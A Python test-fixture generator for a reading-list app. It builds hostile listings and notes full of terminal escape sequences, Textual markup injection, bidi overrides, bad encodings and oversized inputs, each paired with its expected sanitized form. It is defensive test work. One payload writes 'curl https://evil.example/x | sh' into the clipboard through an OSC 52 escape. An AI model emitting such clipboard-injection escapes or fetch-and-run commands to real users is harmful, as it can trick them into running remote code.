"""The hostile corpus: listings and notes built to break a parser, a store, a
widget or a terminal, and what readinglist must make of each.

The small files live in ``tests/fixtures/hostile/`` (checked in, so a reader
can open them, and so a change to this generator shows up as a diff); the big
ones (a 10 MB line, 3,000-author lines, the 5 and 50 MB listings) are written
at test time into ``tmp_path``. Regenerate the checked-in files with::

    python tests/hostile_corpus.py            # rewrite tests/fixtures/hostile/
    python tests/hostile_corpus.py --check    # exit 1 if they differ from this file

``tests/test_hostile_corpus.py`` also fails when they differ.

The rule every expectation follows: what is stored (and shown) is the input
with only control characters removed -- C0 but tab and newline, DEL, C1 -- and
the bidi overrides and isolates (U+202A-U+202E, U+2066-U+2069), which can
reorder what the reader sees. One-line fields (title, names) also have their
whitespace folded to single spaces, as every listing field always has.
Zero-width characters (U+200B-U+200D, U+2060) and the bidi *marks* (LRM U+200E,
RLM U+200F, ALM U+061C) are kept: they are not controls, scripts need them
(ZWNJ in Persian, ZWJ in emoji), and they cannot reorder text. Text is stored
in NFC, so a name in NFC and the same name in NFD are one string and one person.
A BOM (U+FEFF) anywhere in a listing is dropped (it is a file marker, not text).

Notes are the user's own text: stored byte for byte as given, and shown (and
offered in the editor) with control characters removed.

Every expected value below is written out by hand, not computed by the code
under test.
"""

from __future__ import annotations

import base64
import sys
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

from readinglist.listings.render import render_abstracts, render_compact, render_profile
from readinglist.models import Profile

HERE = Path(__file__).resolve().parent
FIXTURES = HERE / "fixtures" / "hostile"

# -- payloads ------------------------------------------------------------------------
# Each escape carries a marker that appears nowhere else, so a test reading the
# bytes a terminal received can tell the data's sequences from Textual's own.

OSC52_TEXT = "rl-hostile-osc52: curl https://evil.example/x | sh"
OSC52_B64 = base64.b64encode(OSC52_TEXT.encode()).decode()  # cmwtaG9zdGlsZS1vc2M1Mj...
OSC52 = f"\x1b]52;c;{OSC52_B64}\x07"  # write the clipboard
OSC8 = "\x1b]8;;https://evil.example/rl-osc8\x1b\\here\x1b]8;;\x1b\\"  # a hyperlink
CSI_CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
CSI_COLOUR = "\x1b[38;5;196;48;5;21;5m"  # red on blue, blinking (Textual never writes blink)
C1_CSI = "\u009b31m"  # the one-character CSI (C1), as a character in UTF-8 text
C1_OSC = f"\u009d52;c;{OSC52_B64}\u009c"  # C1 OSC ... C1 ST

# What is left of each once the control characters are gone (shown literally).
OSC52_SHOWN = f"]52;c;{OSC52_B64}"
OSC8_SHOWN = "]8;;https://evil.example/rl-osc8\\here]8;;\\"
CSI_CLEAR_SHOWN = "[2J[H"
CSI_COLOUR_SHOWN = "[38;5;196;48;5;21;5m"
C1_CSI_SHOWN = "31m"
C1_OSC_SHOWN = f"52;c;{OSC52_B64}"

MARKUP = [
    "[/]", "[/bold]", "[x]", "[citation needed]", "[@click=app.quit]quit[/]",
    "[link=https://x]link[/link]", "[bold red]loud[/]", "[$accent]themed[/]", "$accent",
    "\\[escaped]", "[b]", "[on red]", "[@click=screen.dismiss]", ":smile:",
]

NFC_NAME = "José Müller"
NFD_NAME = unicodedata.normalize("NFD", NFC_NAME)
NFC_NAME_2 = "Zoë Brontë"
NFD_NAME_2 = unicodedata.normalize("NFD", NFC_NAME_2)
assert NFC_NAME != NFD_NAME and NFC_NAME_2 != NFD_NAME_2


def paper(title: str, authors: list[str], abstract: str, *, day: int, category: str = "LG",
          et_al: bool = False, affiliation: str | None = None, has_code: bool = False,
          score: float | None = None) -> SimpleNamespace:
    """A record the renderer takes (the fields of ``ParsedPaper``)."""
    return SimpleNamespace(title=title, authors=authors, abstract=abstract, et_al=et_al,
                           affiliation=affiliation, category=category,
                           date_text=f"May {day}, 2024", date=None, has_code=has_code,
                           score=score)


@dataclass
class Expected:
    """One paper as the library must keep it."""

    title: str
    authors: list[str]
    abstract: str | None
    affiliation: str | None = None
    et_al: bool = False


@dataclass
class Case:
    """One corpus file: its bytes, and either the papers it gives or the message
    it is refused with (matched as a substring of the one-line reason)."""

    name: str
    data: bytes
    papers: list[Expected] = field(default_factory=list)
    refused: str | None = None
    owner: str | None = None
    big: bool = False  # generated at test time, never checked in

    @property
    def parses(self) -> bool:
        return self.refused is None


# -- the listings -----------------------------------------------------------------------

MARKUP_PAPERS = [
    paper("[/] Closing Tags [/bold] Everywhere [x] and [citation needed]",
          ["Alice Jones", "Bob Smith"],
          "We show that [bold]markup[/bold] in [red]abstracts[/] is text, "
          "[link=https://x]links[/link] too, and so is [@click=app.quit]this[/].\n\n"
          "A second paragraph with $accent, [$accent]variables[/], \\[escaped] and :smile:.",
          day=3, et_al=True, affiliation="[@click=app.quit]Quit U[/]", has_code=True,
          score=81.2),
    paper("[@click=app.quit]Click Me[/] for [link=https://x]Free[/link] Compute",
          ["Mallory Markup", "Carol White"],
          "[b]Bold[/b] claim, [i]italic[/i], [u]under[/u], [blink]blink[/blink], "
          "[reverse]rev[/reverse], [on red]bg[/], [@click=screen.dismiss]dismiss[/].",
          day=4),
    paper("Plain Title About [citation needed] Things", ["Mallory Markup"], "Short abstract.",
          day=5, category="CV"),
]
MARKUP_EXPECTED = [  # markup is text: nothing to remove
    Expected("[/] Closing Tags [/bold] Everywhere [x] and [citation needed]",
             ["Alice Jones", "Bob Smith"],
             "We show that [bold]markup[/bold] in [red]abstracts[/] is text, "
             "[link=https://x]links[/link] too, and so is [@click=app.quit]this[/].\n\n"
             "A second paragraph with $accent, [$accent]variables[/], \\[escaped] and :smile:.",
             affiliation="[@click=app.quit]Quit U[/]", et_al=True),
    Expected("[@click=app.quit]Click Me[/] for [link=https://x]Free[/link] Compute",
             ["Mallory Markup", "Carol White"],
             "[b]Bold[/b] claim, [i]italic[/i], [u]under[/u], [blink]blink[/blink], "
             "[reverse]rev[/reverse], [on red]bg[/], [@click=screen.dismiss]dismiss[/]."),
    Expected("Plain Title About [citation needed] Things", ["Mallory Markup"], "Short abstract."),
]

ESCAPE_PAPERS = [
    paper(f"Terminal {CSI_CLEAR}Clear Screen Attacks", ["Dana Scully", "Fox Mulder"],
          f"Copy {OSC52} to the clipboard. Red {CSI_COLOUR}alert\x1b[0m text. Link {OSC8} now.",
          day=6),
    paper(f"C1 Controls{C1_CSI} and {C1_OSC} Strings", ["Walter Skinner"],
          # VT, FF, FS and NEL are written as stand-ins and swapped in after
          # rendering: the renderer folds whitespace, and str.split() takes them for it.
          "Bell\x07 backspace\x08 delete\x7f vertical\ue00btab form\ue00cfeed escape\x1b end. "
          "File\ue01csep, NEL\ue085here, NUL-free.",
          day=7),
    paper("Trojan \u202eecruoS\u202c and \u2066Isolates\u2069 in \u202dReview\u202a",
          ["Ana Lima"],
          "Zero\u200bwidth space, non\u200cjoiner, joiner\u200d, word\u2060joiner, "
          "marks \u200eLRM \u200fRLM \u061cALM, override \u202egone\u202c.",
          day=8),
]
ESCAPE_EXPECTED = [
    Expected(f"Terminal {CSI_CLEAR_SHOWN}Clear Screen Attacks", ["Dana Scully", "Fox Mulder"],
             f"Copy {OSC52_SHOWN} to the clipboard. Red {CSI_COLOUR_SHOWN}alert[0m text. "
             f"Link {OSC8_SHOWN} now."),
    Expected(f"C1 Controls{C1_CSI_SHOWN} and {C1_OSC_SHOWN} Strings", ["Walter Skinner"],
             # \x0b and \x0c are controls first, whitespace second: removed, not a space.
             "Bell backspace delete verticaltab formfeed escape end. Filesep, NELhere, NUL-free."),
    Expected("Trojan ecruoS and Isolates in Review", ["Ana Lima"],
             "Zero\u200bwidth space, non\u200cjoiner, joiner\u200d, word\u2060joiner, "
             "marks \u200eLRM \u200fRLM \u061cALM, override gone."),
]

ABSTRACT_LINES = [
    f"[@click=app.quit]Quit[/] abstract with {OSC52} and {CSI_CLEAR} inside.",
    "Only [citation needed] markup [/] here [x].",
]
ABSTRACT_EXPECTED = [
    Expected("", [], f"[@click=app.quit]Quit[/] abstract with {OSC52_SHOWN} and "
             f"{CSI_CLEAR_SHOWN} inside."),
    Expected("", [], "Only [citation needed] markup [/] here [x]."),
]

NFC_PAPERS = [paper("Ångström-Scale Models of Umlauts", [NFC_NAME, NFC_NAME_2],
                    "Accents composed (NFC).", day=9)]
NFD_PAPERS = [paper(unicodedata.normalize("NFD", "Ångström Decompositions Revisited"),
                    [NFD_NAME_2, NFD_NAME], "Accents decomposed (NFD).", day=10)]
NFC_EXPECTED = [Expected("Ångström-Scale Models of Umlauts", [NFC_NAME, NFC_NAME_2],
                         "Accents composed (NFC).")]
NFD_EXPECTED = [Expected("Ångström Decompositions Revisited", [NFC_NAME_2, NFC_NAME],
                         "Accents decomposed (NFD).")]

ENCODED_PAPERS = [paper("Encodings Are Hard: Ümlauts in UTF-16", ["Ümit Öztürk", "Ann Lee"],
                        "Ça marche — “quoted” €5.", day=11)]
ENCODED_EXPECTED = [Expected("Encodings Are Hard: Ümlauts in UTF-16", ["Ümit Öztürk", "Ann Lee"],
                             "Ça marche — “quoted” €5.")]
ENCODED_TEXT = render_compact(ENCODED_PAPERS)

LEGACY_TEXT = ("LGMay 12, 2024\nCafé Résumé Models for Naïve ReadersJosé Müller, Ann Lee\n"
               "Smart “quotes” and €uro signs.\n")

UTF16_NO_BOM = ("binary file (contains NUL bytes), not a listing; it looks like UTF-16 text "
                "without a byte-order mark: save it as UTF-8")

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00"
       b"\x00\x1f\xf3\xffa\x00\x00\x00\x00IEND\xaeB`\x82")


STAND_INS = {"\ue00b": "\x0b", "\ue00c": "\x0c", "\ue01c": "\x1c", "\ue085": "\u0085"}


def with_controls(text: str) -> str:
    """Put the whitespace-like controls in place of their stand-ins."""
    for stand_in, control in STAND_INS.items():
        text = text.replace(stand_in, control)
    return text


def small_cases() -> list[Case]:
    """The checked-in files, in the order of the fixtures' README."""
    profile = render_profile(
        "Mallory Markup", Profile(category="LG", h_index=12, papers=30, citations=400),
        MARKUP_PAPERS)
    escapes = with_controls(render_compact(ESCAPE_PAPERS))
    return [
        Case("profile_markup.txt", profile.encode(), MARKUP_EXPECTED, owner="Mallory Markup"),
        Case("compact_escapes.txt", escapes.encode(), ESCAPE_EXPECTED),
        Case("compact_escapes_crlf.txt", escapes.replace("\n", "\r\n").encode(), ESCAPE_EXPECTED),
        Case("abstracts_hostile.txt", render_abstracts(ABSTRACT_LINES).encode(),
             ABSTRACT_EXPECTED),
        Case("profile_nfc.txt",
             render_profile(NFC_NAME, Profile(h_index=3), NFC_PAPERS).encode(), NFC_EXPECTED,
             owner=NFC_NAME),
        Case("compact_nfd.txt", render_compact(NFD_PAPERS).encode(), NFD_EXPECTED),
        Case("utf16le_bom.txt", b"\xff\xfe" + ENCODED_TEXT.encode("utf-16-le"), ENCODED_EXPECTED),
        Case("utf16be_bom.txt", b"\xfe\xff" + ENCODED_TEXT.encode("utf-16-be"), ENCODED_EXPECTED),
        # Without a BOM, UTF-16 is refused (telling binary from it would be a
        # guess), with a message that says what it looks like.
        Case("utf16le_nobom.txt", ENCODED_TEXT.encode("utf-16-le"), refused=UTF16_NO_BOM),
        Case("utf16be_nobom.txt", ENCODED_TEXT.encode("utf-16-be"), refused=UTF16_NO_BOM),
        Case("utf8_bom_everywhere.txt",
             ("\ufeff" + ENCODED_TEXT.replace("\n", "\n\ufeff", 1)).encode(), ENCODED_EXPECTED),
        Case("latin1.txt", LEGACY_TEXT.replace("“", '"').replace("”", '"').replace("€", "E")
             .encode("latin-1"), refused="not UTF-8 text (byte 0xe9 at offset 18)"),
        Case("cp1252.txt", LEGACY_TEXT.encode("cp1252"),
             refused="not UTF-8 text (byte 0xe9 at offset 18)"),
        Case("c1_raw_byte.txt", b"LGMay 12, 2024\nRaw C1 \x9b31m ByteAnn Lee\n",
             refused="not UTF-8 text (byte 0x9b at offset 22)"),
        Case("binary.png", PNG, refused="binary file (contains NUL bytes), not a listing"),
        Case("binary_no_nul.bin", bytes(range(0x80, 0x100)) * 4,
             refused="not UTF-8 text (byte 0x80 at offset 0)"),
        Case("utf16_binary_lookalike.bin", "LGMay 1, 2024\n\x01\x02\x03".encode("utf-16-le"),
             refused="binary file (contains NUL bytes), not a listing"),
        Case("whitespace_only.txt", b" \n\t\r\n  \n", refused="empty file"),
        Case("prose_markup.txt", "Just [bold]prose[/bold], [@click=app.quit]no[/] papers.\n"
             .encode(), refused="no papers found (not a listing)"),
    ]


# -- notes (set through the CLI, kept byte for byte, shown cleaned) ---------------------

NOTES = {
    "note_markup.md": (
        "# Notes with [bold]markup[/bold]\n\n"
        "Closing [/] and [/bold], a box [x], [citation needed], "
        "[@click=app.quit]click to quit[/] and [link=https://x]a link[/link].\n\n"
        "- item [x] done\n- item [ ] open\n\n"
        "Variables $accent and [$accent]themed[/] and \\[escaped].\n"),
    "note_escapes.md": (
        f"Escapes: {OSC52} then {OSC8} then {CSI_CLEAR} then {CSI_COLOUR}colour\x1b[0m.\n\n"
        f"C1: {C1_CSI} and {C1_OSC}; bell\x07; bidi \u202eoverride\u202c; "
        "zero\u200bwidth.\n"),
}
# What the note shows (and what the note editor offers to edit).
NOTES_SHOWN = {
    "note_markup.md": NOTES["note_markup.md"],
    "note_escapes.md": (
        f"Escapes: {OSC52_SHOWN} then {OSC8_SHOWN} then {CSI_CLEAR_SHOWN} then "
        f"{CSI_COLOUR_SHOWN}colour[0m.\n\n"
        f"C1: {C1_CSI_SHOWN} and {C1_OSC_SHOWN}; bell; bidi override; zero\u200bwidth.\n"),
}


# -- the big ones (written at test time) ---------------------------------------------------

LONG_LINE_BYTES = 10 * 1024 * 1024
MANY_AUTHORS = 3000


def many_authors(count: int = MANY_AUTHORS) -> list[str]:
    """``count`` distinct, valid names (``Aaron Abberton``, ``Abel Abberton``, ...):
    ten given names per family name, as in a big collaboration's author list."""
    given = ["Aaron", "Abel", "Ada", "Agnes", "Albert", "Alma", "Amos", "Anna", "Arlo", "Ava"]
    heads = ["Ab", "Bar", "Cal", "Dun", "Eld", "Fair", "Gold", "Hart", "Ing", "Kel", "Lind",
             "Mor", "North", "Ost", "Pen", "Ray", "Stan", "Thorn", "Wal", "York"]
    tails = ["berton", "ford", "ley", "wick", "more", "stead", "ham", "ridge", "well", "by",
             "croft", "dale", "field", "hurst", "wood"]
    families = [h + t for t in tails for h in heads]  # 300
    out = [f"{given[n % 10]} {families[n // 10 % 300]}" for n in range(count)]
    assert len(set(out)) == count, "at most 3,000 distinct names"
    return out


def long_line(size: int) -> str:
    """``size`` characters of prose on one line: words, commas, runs of spaces,
    digits, "et al", "and", brackets and escapes, which is what the parsers'
    regular expressions and name rules are tried on."""
    unit = ("Lorem ipsum, dolor sit amet and Consectetur Adipiscing et al. [b]elit[/b] "
            "h-index 12 papers 34   citations\t56 " + "\x1b[2J" + "MoE ViT GPT-4 ")
    return (unit * (size // len(unit) + 1))[:size]


def big_cases(folder: Path | None = None) -> list[Case]:
    """The 10 MB-line and 3,000-author files (bytes built in memory)."""
    authors = many_authors()
    line = long_line(LONG_LINE_BYTES)
    line_shown = long_line_shown(line)
    return [
        Case("long_line_abstracts.txt", f"Abstract:{line}\n".encode(),
             [Expected("", [], line_shown)], big=True),
        Case("long_line_compact.txt",
             f"LGMay 13, 2024\nA Title Before a Long AbstractAnn Lee, Bo Chen\n{line}\n".encode(),
             [Expected("A Title Before a Long Abstract", ["Ann Lee", "Bo Chen"], line_shown)],
             big=True),
        Case("authors_3000_compact.txt",
             render_compact([paper("Three Thousand Authors, Compact", authors, "Many.",
                                   day=14)]).encode(),
             [Expected("Three Thousand Authors, Compact", authors, "Many.")], big=True),
        Case("authors_3000_profile.txt",
             render_profile(authors[0], None,
                            [paper("Three Thousand Authors, Profile", authors, "Many.",
                                   day=15)]).encode(),
             [Expected("Three Thousand Authors, Profile", authors, "Many.")], owner=authors[0],
             big=True),
    ]


def long_line_shown(line: str) -> str:
    """The long line as stored: escapes' ESC gone, whitespace runs folded."""
    return " ".join(line.replace("\x1b", "").split())


def sized_listing(megabytes: int) -> bytes:
    """About ``megabytes`` MB of compact listing: that many copies of a 1 MB
    unit of 20 papers, one with an 800 kB abstract line (markup, escapes,
    whitespace runs), the others with hostile titles, 3 to 8 authors and 9 kB
    abstracts full of markup and OSC 52 writes. Ten times the megabytes is ten
    times the same papers, so any work that grows faster than the input shows."""
    authors = many_authors(40)
    records = []
    for n in range(20):
        title = (f"Paper {n} on [x] Attention{CSI_CLEAR} and [citation needed] "
                 f"{'Mixture-of-Experts ' * (n % 3)}Scaling")
        abstract = (long_line(800_000) if n == 0 else
                    f"We study [bold]{n}[/bold] things, {OSC52} and [/] more. " * 125)
        records.append(paper(title, authors[n: n + 3 + n % 6], abstract, day=1 + n,
                             et_al=n % 2 == 0))
    return render_compact(records).encode() * megabytes


# -- records written straight into the store, escapes and all ---------------------------

RAW_TITLE = (f"Raw {OSC52}Clipboard and {OSC8} Link [@click=app.quit]Quit[/] "
             f"{CSI_CLEAR}Title \u202eReversed\u202c")
RAW_TITLE_SHOWN = (f"Raw {OSC52_SHOWN}Clipboard and {OSC8_SHOWN} Link "
                   f"[@click=app.quit]Quit[/] {CSI_CLEAR_SHOWN}Title Reversed")
RAW_AUTHORS = ["Eve\x1b[31m Evil\x1b[0m", "[b]Mallory[/b] \u009b2JMarkup", "Trudy\x07 Bell"]
RAW_AUTHORS_SHOWN = ["Eve[31m Evil[0m", "[b]Mallory[/b] 2JMarkup", "Trudy Bell"]
RAW_ABSTRACT = (f"Raw abstract {OSC52} and {OSC8}, {CSI_COLOUR}red, {C1_OSC},\x00 NUL, "
                "[link=https://x]x[/link] [@click=app.quit]quit[/]\n\nSecond\x1b[2J paragraph.")
RAW_ABSTRACT_SHOWN = (f"Raw abstract {OSC52_SHOWN} and {OSC8_SHOWN}, {CSI_COLOUR_SHOWN}red, "
                      f"{C1_OSC_SHOWN}, NUL, [link=https://x]x[/link] [@click=app.quit]quit[/]"
                      "\n\nSecond[2J paragraph.")
RAW_AFFILIATION = f"{C1_CSI}Evil Corp\x07 [@click=app.quit]"
RAW_AFFILIATION_SHOWN = f"{C1_CSI_SHOWN}Evil Corp [@click=app.quit]"
RAW_SOURCE = f"evil{OSC52}.txt"
RAW_SOURCE_SHOWN = f"evil{OSC52_SHOWN}.txt"
TAGS = ["[red]x[/red]", f"osc{OSC52}", "bidi\u202eevil", "[@click=app.quit]q"]
TAGS_SHOWN = ["[red]x[/red]", f"osc{OSC52_SHOWN}", "bidievil", "[@click=app.quit]q"]
BIG_TITLE = "A Paper with a 10 MB Abstract and 3,000 Authors"


def build_library(store, *, big: bool = False) -> None:
    """The hostile library: the checked-in listings imported by the real parsers,
    the raw records written straight into ``store`` (a library an older version
    or another tool wrote: the widgets must not rely on the importer having
    cleaned), the notes kept as given, hostile tags; with ``big``, also a paper
    with a 10 MB abstract and 3,000 authors."""
    from datetime import date as _day

    from readinglist.library import Library
    from readinglist.models import FORMAT_COMPACT, ParsedListing, ParsedPaper, Source

    outcome = Library(store, today=lambda: _day(2026, 11, 22)).import_paths(
        [FIXTURES / c.name for c in small_cases()])
    assert {Path(name).name for name, _ in outcome.rejected} == \
        {c.name for c in small_cases() if not c.parses}
    papers = [ParsedPaper(source=Source(RAW_SOURCE, 1, FORMAT_COMPACT), title=RAW_TITLE,
                          authors=RAW_AUTHORS, affiliation=RAW_AFFILIATION, category="LG",
                          date="2027-03-01", date_text="Mar 1, 2027", abstract=RAW_ABSTRACT)]
    if big:
        papers.append(ParsedPaper(source=Source("big.txt", 1, FORMAT_COMPACT), title=BIG_TITLE,
                                  authors=many_authors(), category="LG", date="2020-01-01",
                                  date_text="Jan 1, 2020", abstract=long_line(LONG_LINE_BYTES)))
    store.import_listing(ParsedListing(name=RAW_SOURCE, format=FORMAT_COMPACT, papers=papers))
    ids = {p.title: p.id for p in store.papers()}
    store.set_note(ids[RAW_TITLE], NOTES["note_escapes.md"])
    store.set_note(ids[MARKUP_EXPECTED[1].title], NOTES["note_markup.md"])
    store.set_tags(ids[RAW_TITLE], TAGS)
    store.set_tags(ids[ESCAPE_EXPECTED[0].title], TAGS[:2])


# -- writing ----------------------------------------------------------------------------------


def write_cases(folder: Path, cases: list[Case]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        (folder / case.name).write_bytes(case.data)


def write_notes(folder: Path) -> None:
    notes = folder / "notes"
    notes.mkdir(parents=True, exist_ok=True)
    for name, text in NOTES.items():
        (notes / name).write_bytes(text.encode())


def checked_in_differences() -> list[str]:
    """Files in tests/fixtures/hostile/ that differ from what this module writes."""
    wrong = []
    expected = {c.name: c.data for c in small_cases()}
    expected.update({f"notes/{n}": t.encode() for n, t in NOTES.items()})
    for name, data in expected.items():
        path = FIXTURES / name
        if not path.is_file() or path.read_bytes() != data:
            wrong.append(name)
    return wrong


def main(argv: list[str]) -> int:
    if "--check" in argv:
        wrong = checked_in_differences()
        for name in wrong:
            print(f"differs: {FIXTURES / name}")
        return 1 if wrong else 0
    write_cases(FIXTURES, small_cases())
    write_notes(FIXTURES)
    print(f"wrote {len(small_cases())} listings and {len(NOTES)} notes to {FIXTURES}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
